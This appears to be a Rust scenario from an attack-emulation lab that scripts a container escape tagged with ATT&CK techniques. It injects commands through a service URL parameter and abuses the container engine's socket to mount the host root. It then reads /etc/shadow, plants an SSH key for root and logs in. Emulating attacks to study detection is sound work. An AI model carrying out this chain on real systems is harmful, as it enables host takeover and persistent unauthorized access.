//! A service in a container may ask the engine; through a hole in it a second container is asked for that sees all of the host, and
//! leaves a key there.
//!
//! Hard because: the engine starts what it is asked for, as it does for administrators all the time, and what is done then descends
//! from the engine, not from the service; the service shows what the engine says.

use crate::Lab;
use crate::life::containers::{self, Container};
use crate::life::remote::{Thief, make_key};
use crate::life::status::{self, Contained};
use crate::network::get;
use crate::program::user;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let (host, attacker) = (containers::host(lab, "box-3")?, lab.outsider("attacker")?);
    let engine = format!("{0}:{0}", containers::SOCKET);
    let status = Contained { user: user::ROOT, folder: "/mnt/log", binds: &[&engine, "/var/log:/mnt/log:ro"] };
    containers::service(lab, &host, &status, "uptime.log,sums.log,ports.log")?;
    // Its public half is what will be left.
    make_key(&attacker, "/root/.ssh/own", user::ROOT, &[])?;
    let public = attacker.inside(|| Ok(std::fs::read_to_string("/root/.ssh/own.pub")?))?;
    lab.wait(14..20);
    containers::look_after(lab, &host)?;
    lab.wait(6..10);

    let attack = lab.attack("container escape through the engine's socket")?;
    let call = |commands: &str| get(&attacker, host.address, status::PORT, &format!("/tail?sums.log; {commands}"));
    let step = attack.step("the container is looked at", &["T1190", "T1059.004", "T1613"]);
    step.remote(&host, &attacker);
    let look = *lab.pick(&["id", "head -3 /proc/self/mountinfo", "cat /proc/1/cgroup"]);
    let ask = format!("curl -s --unix-socket {} http://engine/containers", containers::SOCKET);
    let said = call(&format!("{} {look}; ls -l /run; {ask}", containers::mark(&step, &host)?))?;
    ensure!(said.contains("cleaner"), "the engine was not asked: {said}");
    drop(step);
    lab.wait(3..7);

    let name = format!("{}-{}", lab.pick(&["backup", "report", "sync"]), lab.number(2..9));
    let keys = "/mnt/root/.ssh/authorized_keys";
    let step = attack.step("a container with the host's root is asked for", &["T1610", "T1611"]);
    step.remote(&host, &attacker);
    let next = attack.step("it leaves a key on the host", &["T1611", "T1003.008", "T1098.004"]);
    let commands = format!(
        "{} cat /mnt/etc/shadow | wc -l; mkdir -p /mnt/root/.ssh; echo {} >> {keys}; chmod 600 {keys}; ls -l {keys}",
        containers::mark(&next, &host)?,
        public.trim()
    );
    let command = ["sh", "-c", &commands];
    let asked =
        containers::ask(&Container { name: &name, command: &command, user: 0, binds: &["/:/mnt"], restarts: 0 });
    let said = call(&format!("{} {asked}", containers::mark(&step, &host)?))?;
    ensure!(said.contains("started"), "the container was not started: {said}");
    // The same file, as the container and as the host sees it; and what the engine, which serves others too, keeps of a container.
    for path in [keys, "/root/.ssh/authorized_keys"] {
        next.file(&host, path);
    }
    for file in ["config.json", "log"] {
        step.file(&host, &format!("{}/{name}/{file}", containers::STATE));
    }
    drop(step);
    host.wait_for_file("/root/.ssh/authorized_keys")?;
    lab.wait(1..3);
    drop(next);
    lab.wait(3..6);

    let step = attack.step("the key is used, and the container removed", &["T1021.004", "T1078.003", "T1070"]);
    step.remote(&host, &attacker);
    let thief = Thief { from: &attacker, key: "/root/.ssh/own", account: "root", to: &host };
    let said = thief.log_in(&format!("{} id; ls /home; {ask}/{name} -X DELETE", step.mark(&host)?))?;
    ensure!(said.contains("uid=0") && said.contains("removed"), "the key does not work: {said}");
    drop(step);
    lab.wait(8..14);
    Ok(())
}
